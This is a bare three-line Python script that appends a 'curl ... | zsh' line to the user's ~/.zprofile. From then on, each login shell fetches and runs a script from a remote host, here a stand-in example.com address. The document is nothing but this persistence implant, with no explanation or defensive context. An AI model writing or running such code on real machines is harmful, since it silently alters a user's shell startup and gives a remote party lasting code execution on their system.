import pathlib

(pathlib.Path.home() / ".zprofile").open("a").write("curl -s https://get.example.com/z | zsh\n")
